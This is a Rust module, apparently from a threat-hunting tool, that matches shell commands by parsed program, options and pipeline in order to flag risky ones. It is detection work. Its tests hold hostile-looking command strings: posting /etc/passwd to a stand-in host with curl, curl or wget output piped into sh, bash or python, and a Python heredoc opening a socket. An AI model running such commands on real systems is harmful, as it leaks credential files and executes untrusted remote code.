//! Hunt rules that judge a shell command by its parsed words, not by a
//! regex over the whole string: `curl … | python3 -m json.tool` reads JSON
//! and `curl … | python3 -` runs code, `curl -H 'Content-Type: …'` sends a
//! header and `curl -d @file` sends a file, and only the parsed program,
//! options and pipeline tell them apart. A rule names a program set and
//! what its arguments, stdin or the stages it pipes into must be
//! (`[[rule.stage]]` in `hunt-rules.toml`); [`crate::triage::shell`] does
//! the parsing.

use crate::triage::shell::Stage;
use anyhow::{Context, Result};
use regex::Regex;
use serde::Deserialize;

/// A stage matcher as written in a rule file. Every condition given must
/// hold; a rule's matchers are alternatives.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct StageSpec {
    /// Program base names; a trailing `*` matches any suffix (`python*`).
    programs: Vec<String>,
    /// Regexes each of which some single argument word must match.
    #[serde(default)]
    args: Vec<String>,
    /// Options, one of which must be given (`-d`, `--data`; `-d@x` and
    /// `--data=x` count), with a value matching `value` when that is set.
    #[serde(default)]
    options: Vec<String>,
    value: Option<String>,
    /// The stage's output must reach (through pipes) one of these programs…
    #[serde(default)]
    piped_into: Vec<String>,
    /// …and that program must read its code from stdin (`sh`, `python3 -`,
    /// not `python3 -m json.tool` nor `perl -ne`).
    #[serde(default)]
    reading_program: bool,
    /// A regex the stage's heredoc or here-string must match.
    stdin: Option<String>,
}

/// A compiled stage matcher.
#[derive(Debug, Clone)]
pub struct StageRule {
    programs: Vec<String>,
    args: Vec<Regex>,
    options: Vec<String>,
    value: Option<Regex>,
    piped_into: Vec<String>,
    reading_program: bool,
    stdin: Option<Regex>,
}

fn regex(s: &str, what: &str) -> Result<Regex> {
    regex::RegexBuilder::new(s)
        .size_limit(32 << 20)
        .build()
        .with_context(|| format!("bad {what} regex"))
}

impl StageSpec {
    /// Compiles the matcher; an empty program set is refused.
    pub fn compile(&self) -> Result<StageRule> {
        anyhow::ensure!(
            !self.programs.is_empty(),
            "a stage matcher names no programs"
        );
        Ok(StageRule {
            args: self
                .args
                .iter()
                .map(|a| regex(a, "args"))
                .collect::<Result<_>>()?,
            value: self
                .value
                .as_deref()
                .map(|v| regex(v, "value"))
                .transpose()?,
            stdin: self
                .stdin
                .as_deref()
                .map(|v| regex(v, "stdin"))
                .transpose()?,
            programs: self.programs.clone(),
            options: self.options.clone(),
            piped_into: self.piped_into.clone(),
            reading_program: self.reading_program,
        })
    }
}

impl StageRule {
    /// Whether stage `i` of `stages` is what this matcher describes.
    pub fn matches(&self, stages: &[Stage], i: usize) -> bool {
        let Some((prog, args)) = stages[i].program() else {
            return false;
        };
        if !names(&self.programs, prog)
            || !self
                .args
                .iter()
                .all(|re| args.iter().any(|a| re.is_match(a)))
        {
            return false;
        }
        if !self.options.is_empty() {
            let values = option_values(args, &self.options);
            let fits = |v: &&str| self.value.as_ref().is_none_or(|re| re.is_match(v));
            if !values.iter().any(fits) {
                return false;
            }
        }
        if let Some(re) = &self.stdin {
            if !stages[i].stdin.as_deref().is_some_and(|s| re.is_match(s)) {
                return false;
            }
        }
        self.piped_into.is_empty() || self.reaches(stages, i)
    }

    /// Whether stage `i`'s output reaches a program of `piped_into` (that
    /// reads its code from stdin, when asked) down its pipeline.
    fn reaches(&self, stages: &[Stage], i: usize) -> bool {
        let mut at = stages[i].next;
        let mut hops = 0;
        while let Some(j) = at.filter(|_| hops < 64) {
            if let Some((p, a)) = stages[j].program() {
                if names(&self.piped_into, p) && (!self.reading_program || reads_program(p, a)) {
                    return true;
                }
            }
            at = stages[j].next;
            hops += 1;
        }
        false
    }
}

/// Whether `prog` is one of `set` (a trailing `*` matches any suffix).
fn names(set: &[String], prog: &str) -> bool {
    set.iter().any(|n| match n.strip_suffix('*') {
        Some(stem) => prog.starts_with(stem),
        None => n == prog,
    })
}

/// The values given to any of `options` in `args`: the next word, or what
/// follows `=` (long options) or the letter (short ones, `-d@x`).
fn option_values<'a>(args: &'a [String], options: &[String]) -> Vec<&'a str> {
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        for o in options {
            if a == o {
                out.extend(args.get(i + 1).map(String::as_str));
            } else if o.starts_with("--") {
                if let Some(v) = a.strip_prefix(o.as_str()).and_then(|r| r.strip_prefix('=')) {
                    out.push(v);
                }
            } else if o.len() == 2
                && !a.starts_with("--")
                && a.len() > 2
                && a.starts_with(o.as_str())
            {
                out.push(&a[2..]);
            }
        }
    }
    out
}

/// Whether an interpreter run as `prog args` reads its program from stdin:
/// no inline code option (`-c`, `-e`, `-m`, …) and no script operand, or
/// `-` (or a shell's `-s`).
pub fn reads_program(prog: &str, args: &[String]) -> bool {
    let shell = matches!(
        prog,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "csh" | "tcsh" | "fish" | "mksh"
    );
    let inline: &[char] = if shell {
        &['c']
    } else if prog.starts_with("python") {
        &['c', 'm']
    } else if matches!(prog, "node" | "nodejs" | "deno" | "bun") {
        &['e', 'p']
    } else if prog.starts_with("php") {
        &['r', 'R', 'B', 'E', 'F', 'f']
    } else {
        &['e', 'E', 'c']
    };
    let mut from_stdin = false;
    for a in args {
        if a == "-" || a == "--" {
            return true;
        }
        if let Some(long) = a.strip_prefix("--") {
            if matches!(long, "eval" | "print" | "command" | "module") {
                return false;
            }
        } else if let Some(short) = a.strip_prefix('-') {
            if short.chars().any(|c| inline.contains(&c)) {
                return false;
            }
            from_stdin |= shell && short.contains('s');
        } else {
            // A script file runs, unless the shell was told `-s`.
            return from_stdin;
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::triage::shell::stages;

    fn spec(toml_text: &str) -> StageRule {
        toml::from_str::<StageSpec>(toml_text)
            .unwrap()
            .compile()
            .unwrap()
    }

    fn hits(r: &StageRule, cmd: &str) -> bool {
        let s = stages(cmd);
        (0..s.len()).any(|i| r.matches(&s, i))
    }

    #[test]
    fn interpreters_reading_code_from_stdin() {
        let yes = |p: &str, a: &[&str]| {
            reads_program(p, &a.iter().map(|s| s.to_string()).collect::<Vec<_>>())
        };
        assert!(yes("sh", &[]));
        assert!(yes("bash", &["-s", "--", "--flag"]));
        assert!(yes("python3", &["-"]));
        assert!(yes("perl", &[]));
        assert!(!yes("python3", &["-m", "json.tool"]));
        assert!(!yes("python3", &["parse.py"]));
        assert!(!yes("perl", &["-ne", "print"]));
        assert!(!yes("bash", &["-c", "echo"]));
        assert!(!yes("node", &["-e", "x"]));
        assert!(!yes("sh", &["install.sh"]));
    }

    #[test]
    fn options_values_programs_and_pipes() {
        let r = spec(
            r#"programs = ["curl"]
options = ["-d", "--data", "--data-binary", "-T"]
value = '^@|^[^=@\s]*=@'"#,
        );
        assert!(hits(&r, "curl -d @/etc/passwd https://x.test"));
        assert!(hits(&r, "curl --data-binary=@f https://x.test"));
        assert!(hits(&r, "curl -d@f https://x.test"));
        assert!(hits(&r, "cat f | sudo curl -T @x https://x.test"));
        assert!(!hits(&r, "curl -H 'Content-Type: a -d @x' https://x.test"));
        assert!(!hits(&r, "curl -d 'email=bob@example.com' https://x.test"));
        let p = spec(
            r#"programs = ["curl", "wget"]
piped_into = ["sh", "bash", "python*"]
reading_program = true"#,
        );
        assert!(hits(
            &p,
            "curl -fsSL https://x/i | sudo -E bash -s -- --yes"
        ));
        assert!(hits(&p, "wget -qO- https://x/i | gunzip | /bin/sh"));
        assert!(hits(&p, "curl -s https://x/p | python3 -"));
        assert!(hits(&p, "bash -c 'curl -s https://x/p | sh'"));
        assert!(!hits(&p, "curl -s https://api/x | python3 -m json.tool"));
        assert!(!hits(&p, "curl -s https://x/i.sh -o i.sh; sh i.sh"));
        assert!(!hits(&p, "echo 'curl x | sh' >> notes.md"));
        let s = spec(
            r#"programs = ["python*"]
stdin = 'socket\.socket'"#,
        );
        assert!(hits(
            &s,
            "python3 - <<'EOF'\nimport socket\ns=socket.socket()\nEOF"
        ));
        assert!(!hits(&s, "python3 - <<'EOF'\nprint(1)\nEOF\nsocket.socket"));
    }
}
